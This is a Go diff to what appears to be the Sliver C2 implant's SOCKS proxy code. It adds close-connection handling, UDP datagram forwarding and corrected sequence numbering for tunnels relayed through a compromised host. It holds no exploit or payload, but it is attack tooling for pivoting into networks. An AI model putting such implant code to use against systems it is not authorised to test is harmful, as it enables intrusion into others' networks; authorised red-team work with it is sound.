@@ -38,14 +38,18 @@ import (
 
 type socksTunnelPool struct {
 	tunnels *sync.Map // map[uint64]chan []byte
+	conns   *sync.Map // map[uint64]*socks
 }
 
 var socksTunnels = socksTunnelPool{
 	tunnels: &sync.Map{},
+	conns:   &sync.Map{},
 }
 
 var socksServer *socks5.Server
 
+var errClosedByClient = errors.New("[socks] connection closed by client")
+
 func SocksReqHandler(envelope *sliverpb.Envelope, connection *transports.Connection) {
 	socksData := &sliverpb.SocksData{}
 	err := proto.Unmarshal(envelope.Data, socksData)
@@ -55,9 +59,21 @@ func SocksReqHandler(envelope *sliverpb.Envelope, connection *transports.Connect
 		// {{end}}
 		return
 	}
+	if socksData.CloseConn {
+		// The client closed its connection, a nil read makes the server close
+		// the connection to the destination
+		if tunnel, ok := socksTunnels.tunnels.Load(socksData.TunnelID); ok {
+			tunnel.(chan []byte) <- nil
+		}
+		return
+	}
 	if socksData.Data == nil {
 		return
 	}
+	if socksData.Datagram {
+		socksDatagramHandler(socksData)
+		return
+	}
 	// {{if .Config.Debug}}
 	log.Printf("[socks] User to Client to (server to implant) Data Sequence %d, Data Size %d\n", socksData.Sequence, len(socksData.Data))
 	// {{end}}
@@ -83,7 +99,9 @@ func SocksReqHandler(envelope *sliverpb.Envelope, connection *transports.Connect
 		tunnelChan := make(chan []byte, 10)
 		socksTunnels.tunnels.Store(socksData.TunnelID, tunnelChan)
 		tunnelChan <- socksData.Data
-		err := socksServer.ServeConn(&socks{stream: socksData, conn: connection})
+		conn := &socks{stream: socksData, conn: connection}
+		socksTunnels.conns.Store(socksData.TunnelID, conn)
+		err := socksServer.ServeConn(conn)
 		if err != nil {
 			// {{if .Config.Debug}}
 			log.Printf("[socks] Failed to serve connection: %v", err)
@@ -111,27 +129,36 @@ func (s *socks) Read(b []byte) (n int, err error) {
 	}
 
 	data := <-channel.(chan []byte)
+	if data == nil {
+		return 0, errClosedByClient
+	}
 	return copy(b, data), nil
 }
 
 func (s *socks) Write(b []byte) (n int, err error) {
+	return s.send(b, false)
+}
+
+// send - Send data to the client, datagrams of the tunnel's udp associate share
+// the sequence with the stream so the server keeps them in order
+func (s *socks) send(b []byte, datagram bool) (int, error) {
+	sequence := atomic.AddUint64(&s.Sequence, 1) - 1
 	data, err := proto.Marshal(&sliverpb.SocksData{
 		TunnelID: s.stream.TunnelID,
 		Data:     b,
-		Sequence: atomic.LoadUint64(&s.Sequence),
+		Datagram: datagram,
+		Sequence: sequence,
 	})
 	if !s.conn.IsOpen {
 		return 0, err
 	}
 	// {{if .Config.Debug}}
-	log.Printf("[socks] (implant to Server) to Client to User Data Sequence %d, Data Size %d Data %v\n", atomic.LoadUint64(&s.Sequence), len(b), b)
+	log.Printf("[socks] (implant to Server) to Client to User Data Sequence %d, Data Size %d Data %v\n", sequence, len(b), b)
 	// {{end}}
 	s.conn.Send <- &sliverpb.Envelope{
 		Type: sliverpb.MsgSocksData,
 		Data: data,
 	}
-
-	atomic.AddUint64(&s.Sequence, 1)
 	return len(b), err
 }
 
@@ -141,6 +168,10 @@ func (s *socks) Close() error {
 		return errors.New("[socks] can't close unknown channel")
 	}
 	close(channel.(chan []byte))
+	socksTunnels.conns.Delete(s.stream.TunnelID)
+	if association, ok := socksAssociations.LoadAndDelete(s.stream.TunnelID); ok {
+		association.(*socksAssociation).conn.Close()
+	}
 
 	data, err := proto.Marshal(&sliverpb.SocksData{
 		TunnelID:  s.stream.TunnelID,